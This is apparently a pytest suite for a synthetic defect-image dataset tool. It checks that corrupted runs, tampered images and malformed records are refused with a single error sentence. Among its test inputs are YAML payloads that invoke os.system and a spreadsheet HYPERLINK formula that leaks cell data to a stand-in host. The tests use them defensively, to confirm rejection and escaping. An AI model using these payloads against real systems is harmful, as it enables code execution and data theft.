"""A run that is not what it says is not exported: one sentence, exit code 2, nothing written."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from pyarrow import parquet

from synthgen.exporting.labels import read_labels
from synthgen.exporting.lengths import are_labels_sound
from synthgen.imaging.geometry import mask_to_box, mask_to_rle, read_run_lengths
from synthgen.imaging.images import encode_png, read_image
from synthgen.runs.folder import RunFolder
from synthgen.runs.reader import read_run
from synthgen.runs.reviews.edits import Edit, EditedInstance, add_edits
from synthgen.storage.files import digest_file
from tests.cli import run_here, run_well
from tests.factories import make_run
from tests.hard_set import make_hard_run

TIME = "2026-01-31T12:00:00+00:00"


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    return make_hard_run(tmp_path_factory.mktemp("hard") / "run")


@pytest.fixture
def run(made, tmp_path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "run"))


@pytest.fixture(scope="module")
def plain(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("plain") / "run"
    make_run(folder)
    return folder


@pytest.fixture
def small_run(plain, tmp_path) -> Path:
    return Path(shutil.copytree(plain, tmp_path / "run"))


def rewrite(run: Path, name: str, change: Any) -> None:
    """Change a table by a function of its rows."""
    path = run / f"{name}.parquet"
    table = parquet.read_table(path)
    rows = table.to_pylist()
    rows = change(rows) or rows
    parquet.write_table(pa.Table.from_pylist(rows, schema=table.schema), path)


def assert_not_exported(run: Path, named: str, *more: str, medias: Any = ("copy",)) -> None:
    out = run.parent / "out"
    for media in medias:
        done = run_here(
            "export", f"run.folder={run}", f"out={out}", f"media={media}", "include=all", *more
        )
        assert done.returncode == 2, (media, done.stdout)
        sentence = done.stderr.splitlines()[-1]
        assert sentence.startswith("synthgen: "), done.stderr
        assert named in sentence, done.stderr
        assert sorted(path.name for path in run.parent.iterdir()) == ["run"]


INSTANCES = [  # column, value of the first row, what the sentence names
    ("rle", "", "it holds no run lengths"),
    ("rle", "0", "do not fill 48 x 64 pixels"),
    ("rle", mask_to_rle(np.zeros((48, 64), bool))["counts"], "it is empty"),
    ("rle", "\x7f\x7f", "no run lengths"),
    ("rle", "PPPPPP", "cut off"),
    ("area_px", -4, "not area_px=-4"),
    ("area_px", 1, "not area_px=1"),
    ("box_w", -3, "its box is"),
    ("box_x", 63, "its box is"),
    ("defect_class", "nobody", "names the class 'nobody'"),
    ("defect_class", "", "names the class ''"),
    ("class_id", 200, "with id 200"),
    ("sample_id", "nobody", "has defects of 'nobody'"),
]
MANIFEST = [
    ("width", -1, "-1 px, which no image can be"),
    ("height", 0, "0 x 64 px"),
    ("height", 2**40, "which no image can be"),
    ("defect_class", "nobody", "names the class 'nobody'"),
    ("class_id", 200, "with id 200"),
    ("instances", 7, "instances="),
    ("area_px", 7, "area_px="),
    ("status", "nonsense", "has the status 'nonsense'"),
    ("image", "images/none.png", "is named in the manifest but missing"),
    ("split", "", "split=''"),
    ("sample_id", "", "without an id"),
]


@pytest.mark.parametrize(("column", "value", "named"), INSTANCES)
def test_labels_that_cannot_be_are_not_exported(run, column, value, named) -> None:
    rewrite(run, "instances", lambda rows: rows[0].update({column: value}))
    assert_not_exported(run, named)


@pytest.mark.parametrize(("column", "value", "named"), MANIFEST)
def test_samples_that_cannot_be_are_not_exported(run, column, value, named) -> None:
    def change(rows: list[dict[str, Any]]) -> None:
        next(row for row in rows if row["sample_id"] == "hole").update({column: value})

    rewrite(run, "manifest", change)
    assert_not_exported(run, named)


@pytest.mark.parametrize("name", ["manifest", "instances"])
def test_rows_that_are_there_twice_are_not_exported(run, name) -> None:
    rewrite(run, name, lambda rows: [*rows, rows[0]])
    assert_not_exported(run, f"{name}.parquet has")


def test_a_defect_that_lost_its_row_is_not_exported(run) -> None:
    rewrite(run, "instances", lambda rows: rows[1:])
    assert_not_exported(run, "instances=0, its manifest 1")


@pytest.mark.parametrize("has_digest", [True, False])
@pytest.mark.parametrize("kind", ["images", "masks"])
@pytest.mark.parametrize("harm", ["cut off", "changed", "another size", "garbage", "empty"])
def test_pictures_that_were_changed_are_not_exported(run, kind, harm, has_digest) -> None:
    path = run / kind / "hole.png"
    data = path.read_bytes()
    changed = {
        "cut off": data[:-20],
        "changed": data[:-40] + bytes([data[-40] ^ 1]) + data[-39:],
        "another size": encode_png(read_image(path)[:20]),
        "garbage": b"garbage",
        "empty": b"",
    }[harm]
    path.write_bytes(changed)
    if not has_digest:  # a run of before
        for column in ("image_digest", "mask_digest"):
            rewrite(run, "manifest", lambda rows, c=column: [{**row, c: ""} for row in rows])
    more = ["format=[semantic]"] if kind == "masks" else ["format=[coco]"]
    out = run.parent / "out"
    done = run_here("export", f"run.folder={run}", f"out={out}", *more)
    assert done.returncode == 2, done.stdout
    assert "hole.png" in done.stderr
    assert not out.exists()


def test_a_picture_that_was_exchanged_is_known_by_its_digest(run) -> None:
    pixels = read_image(run / "images" / "hole.png")
    (run / "images" / "hole.png").write_bytes(encode_png(255 - pixels))
    told = "hole.png is not the file that was written"
    assert_not_exported(run, told, "format=[coco]", medias=("copy", "link", "refer"))


def test_a_mask_of_no_class_is_not_exported(run) -> None:
    pixels = read_image(run / "masks" / "hole.png")
    data = encode_png(np.where(pixels > 0, 77, 0).astype(np.uint8))
    (run / "masks" / "hole.png").write_bytes(data)

    def change(rows: list[dict[str, Any]]) -> None:
        next(row for row in rows if row["sample_id"] == "hole")["mask_digest"] = digest_file(data)

    rewrite(run, "manifest", change)
    done = run_here("export", f"run.folder={run}", f"out={run.parent}/out", "format=[semantic]")
    assert done.returncode == 2
    assert "holds the id 77" in done.stderr


@pytest.mark.parametrize("harm", ["cut off", "of one bit changed", "offset", "size"])
def test_tars_that_were_changed_are_not_exported(tmp_path, harm) -> None:
    run = tmp_path / "run"
    make_run(run, "tar")
    (tar,) = (run / "tars").iterdir()
    data = bytearray(tar.read_bytes())
    rows = pd.read_parquet(run / "files.parquet")
    row = rows[rows["name"] == "images/hole.png"].iloc[0]
    if harm == "cut off":
        tar.write_bytes(data[: row["offset"] + 20])
    elif harm == "of one bit changed":
        data[row["offset"] + row["size"] // 2] ^= 1
        tar.write_bytes(data)
    else:
        rows.loc[rows["name"] == "images/hole.png", harm] = -5
        rows.to_parquet(run / "files.parquet")
    done = run_here("export", f"run.folder={run}", f"out={tmp_path}/out", "format=[coco]")
    assert done.returncode == 2, done.stdout
    assert "hole.png" in done.stderr or "batch" in done.stderr
    assert not (tmp_path / "out").exists()


def test_digests_of_what_is_written_are_stored_also_of_edited_labels(tmp_path) -> None:
    run = tmp_path / "run"
    make_run(run)
    mask = np.zeros((48, 48), bool)
    mask[3:9, 4:30] = True
    add_edits(
        run,
        [
            Edit(
                sample_id="hole",
                revision=0,
                reviewer="ann",
                time=TIME,
                instances=(EditedInstance("pit", mask),),
            )
        ],
    )
    RunFolder(run).merge()
    rows = read_run(run).manifest
    for row in rows[rows["image"] != ""].to_dict("records"):
        for name in ("image", "mask"):
            assert digest_file((run / row[name]).read_bytes()) == row[f"{name}_digest"]
    assert rows.set_index("sample_id").loc["hole", "mask"].endswith(".edited.png")
    run_well("export", f"run.folder={run}", f"out={tmp_path}/out", "format=[coco,semantic]")
    assert len(read_labels(run)) == len(CASES_KEPT)


CASES_KEPT = ("one_pixel_scratch", "touches_border", "hole", "two_parts", "defect_free")


def test_run_lengths_are_those_of_the_decoder() -> None:
    rng = np.random.default_rng(3)
    for height, width in rng.integers(1, 90, (60, 2)):
        mask = rng.random((height, width)) < rng.random()
        lengths = read_run_lengths(mask_to_rle(mask)["counts"], (height, width))
        flat = mask.T.ravel()
        expected = np.diff(np.flatnonzero(np.diff(flat)) + 1, prepend=0, append=flat.size)
        kept = lengths[1:] if flat[0] else lengths
        assert np.array_equal(kept, expected)


def test_many_labels_are_checked_at_once_as_one_by_one() -> None:
    rng = np.random.default_rng(5)
    rows, sizes = [], []
    for height, width in rng.integers(1, 70, (80, 2)):
        mask = rng.random((height, width)) < rng.choice([0.02, 0.5, 0.98])
        mask[rng.integers(height), rng.integers(width)] = True
        x, y, box_w, box_h = mask_to_box(mask)
        box = {"box_x": x, "box_y": y, "box_w": box_w, "box_h": box_h}
        rows.append({"rle": mask_to_rle(mask)["counts"], "area_px": int(mask.sum()), **box})
        sizes.append((height, width))
    table, size_hw = pd.DataFrame(rows), np.array(sizes)
    assert are_labels_sound(table, size_hw)
    assert are_labels_sound(table[:0], size_hw[:0])
    for place in range(0, 80, 7):
        for column in ("area_px", "box_x", "box_y", "box_w", "box_h"):
            wrong = table.copy()
            wrong.loc[place, column] += 1
            assert not are_labels_sound(wrong, size_hw)
        for text in ("", "0", "é", "PPPP", "\x7f", table["rle"][place][:-1] + "P", "o" * 40 + "0"):
            wrong = table.copy()
            wrong.loc[place, "rle"] = text
            assert not are_labels_sound(wrong, size_hw)


YAMLS = [
    ("run.yaml", b"", "holds NoneType"),
    ("run.yaml", b"a: [", "cannot be read as YAML"),
    ("run.yaml", b"\xff\xfe\x00", "cannot be read as YAML"),
    ("run.yaml", b"config: 5\ndigest: a\n", "run.yaml.config=5 should hold keys"),
    ("run.yaml", b"config: {}\n", "has no digest"),
    ("run.yaml", b"config: {defect: [1]}\ndigest: a\n", "config.defect=[1] should hold keys"),
    ("run.yaml", b"config: {defect: {pit: 3}}\ndigest: a\n", "config.defect.pit=3 should hold"),
    ("run.yaml", b"config: {defect: {pit: {class_id: x}}}\ndigest: a\n", "has the id 'x'"),
    ("run.yaml", b"config: {bank: x}\ndigest: a\n", "config.bank='x' should hold keys"),
    ("run.yaml", b"config: {}\ndigest: a\nmodels: [1]\n", "models=[1] should hold keys"),
    ("run.yaml", b"config: {}\ndigest: a\nnotes: {a: 1}\n", "notes must be a list"),
    ("run.yaml", b"!!python/object/apply:os.system [id]", "cannot be read as YAML"),
    ("run.yaml", b"[" * 5000, "cannot be read as YAML"),
    ("quality.yaml", b"5", "holds int"),
    ("quality.yaml", b"area_px: [6", "cannot be read as YAML"),
    ("quality.yaml", b"area_px: nonsense", "quality.area_px"),
]


@pytest.mark.parametrize(
    ("pipeline", "name", "data", "named"),
    [("export", *row) for row in YAMLS] + [("inspect", *row) for row in YAMLS if "run" in row[0]],
)
def test_broken_records_are_a_sentence(run, pipeline, name, data, named) -> None:
    (run / name).write_bytes(data)
    more = [f"out={run.parent / 'out'}"] if pipeline == "export" else []
    done = run_here(pipeline, f"run.folder={run}", *more)
    assert done.returncode == 2, done.stdout
    assert named in done.stderr, done.stderr
    assert name in done.stderr


def test_inspect_writes_broken_limits_again(run) -> None:
    (run / "quality.yaml").write_bytes(b"area_px: [6")
    run_well("inspect", f"run.folder={run}")
    assert len(read_labels(run))


READ = [
    *(("manifest", column) for column in ("sample_id", "revision", "instances")),
    *(("instances", column) for column in ("sample_id", "rle")),
    *(("review", column) for column in ("sample_id", "revision", "time")),
    *(("edits", column) for column in ("sample_id", "revision", "rle", "time", "instances")),
]


@pytest.mark.parametrize(("name", "column"), READ)
@pytest.mark.parametrize("kind", [pa.list_(pa.int64()), pa.struct([("a", pa.int64())])])
def test_tables_of_other_types_are_a_sentence(small_run, name, column, kind) -> None:
    run = small_run
    path = run / f"{name}.parquet"
    if name in ("review", "edits"):
        table = pa.table({"sample_id": ["hole"], "revision": [0], "time": [TIME]})
    else:
        table = parquet.read_table(path)
    if column not in table.column_names:
        table = table.append_column(column, pa.array([""] * len(table)))
    place = table.schema.get_field_index(column)
    values: dict[str, Any] = {"binary": b"\xff", "list<item: int64>": [1]}
    value = values.get(str(kind), {"a": 1})
    broken = table.set_column(place, column, pa.array([value] * len(table), kind))
    parquet.write_table(broken, path)
    pipeline = "inspect" if name == "edits" else "export"
    more = [f"out={run.parent / 'out'}"] if pipeline == "export" else []
    done = run_here(pipeline, f"run.folder={run}", *more)
    assert done.returncode == 2, done.stdout
    assert f"{name}.parquet" in done.stderr, done.stderr


@pytest.mark.parametrize("part", ["a b c", "9 9 ", "96 96 0", "500 500 0", "x"])
def test_a_broken_outline_is_a_sentence(small_run, part) -> None:
    run = small_run
    rewrite(run, "manifest", lambda rows: [{**row, "part": part} for row in rows])
    done = run_here("report", f"run.folder={run}")
    assert done.returncode == 2
    assert "which is not an outline" in done.stderr


def test_texts_that_begin_like_formulas_are_harmless_in_tables(tmp_path) -> None:
    run = tmp_path / "run"
    make_run(run)
    text = '=HYPERLINK("http://evil.example?x="&A1)'
    rewrite(run, "manifest", lambda rows: [{**row, "prompt": text, "group": "@a"} for row in rows])
    run_well("export", f"run.folder={run}", f"out={tmp_path}/out", "format=[table]")
    images = pd.read_csv(tmp_path / "out" / "table" / "images.csv", dtype=str)
    assert set(images["prompt"]) == {f"'{text}"}
    labels = pd.read_csv(tmp_path / "out" / "labels.csv", dtype=str)
    assert set(labels["group"]) == {"'@a"}
    assert set(pd.read_parquet(tmp_path / "out" / "table" / "images.parquet")["prompt"]) == {text}


def test_a_record_is_yaml_without_objects(run) -> None:
    (run / "run.yaml").write_text("config: !!python/name:os.system\ndigest: a\n", encoding="utf-8")
    done = run_here("report", f"run.folder={run}")
    assert done.returncode == 2
